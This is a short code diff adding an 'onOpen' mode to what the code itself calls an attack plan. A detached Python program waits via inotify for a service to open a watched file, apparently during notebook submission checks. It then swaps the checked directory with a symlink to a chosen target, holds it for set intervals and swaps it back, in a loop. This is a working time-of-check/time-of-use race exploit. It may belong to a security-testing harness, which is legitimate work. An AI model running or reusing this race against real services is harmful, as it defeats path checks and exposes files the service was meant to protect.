@@ -46,6 +46,13 @@ export interface AttackPlan {
   pairs?: [string, string][];
   /** Entries of `<dir>` swapped with a FIFO (opening one for reading blocks until a writer comes). */
   fifos?: string[];
+  /**
+   * Waits (inotify) until `watch` (a file under `<dir>/<real>`) is opened, e.g. by the service checking a
+   * notebook at submission, then swaps the directory `<dir>/<real>` with a link to `target`, holds it
+   * for the next of `holdSeconds` (while the service goes on with the path it checked) and swaps it back;
+   * again and again. Instead of the tight swap loop.
+   */
+  onOpen?: { watch: string; real: string; target: string; holdSeconds: number[] };
 }
 
 /** The detached program (python3, run with `python3 -c PROGRAM PLAN_JSON`). */
@@ -117,6 +124,29 @@ if plan.get("writeMB"):
                 f.write(chunk)
                 f.flush()
     attempt(write)
+if plan.get("onOpen"):
+    o = plan["onOpen"]
+    real, link = (D + "/" + o["real"]).encode(), (D + "/.l-" + os.path.basename(o["real"])).encode()
+    attempt(lambda: os.symlink(o["target"], link))
+    fd = libc.inotify_init()
+    IN_OPEN = 0x20
+    # The watch is on the file's inode: it stays put when its directory is swapped away and back.
+    libc.inotify_add_watch(fd, (D + "/" + o["watch"]).encode(), IN_OPEN)
+    holds = 0
+    while True:
+        os.read(fd, 4096)
+        xchg(real, link)
+        time.sleep(o["holdSeconds"][holds % len(o["holdSeconds"])])
+        holds += 1
+        xchg(real, link)
+        # Opens seen meanwhile are not cues: only the next one counts.
+        os.set_blocking(fd, False)
+        try:
+            while os.read(fd, 4096):
+                pass
+        except BlockingIOError:
+            pass
+        os.set_blocking(fd, True)
 n = 0
 while True:
     for a, b in swaps:
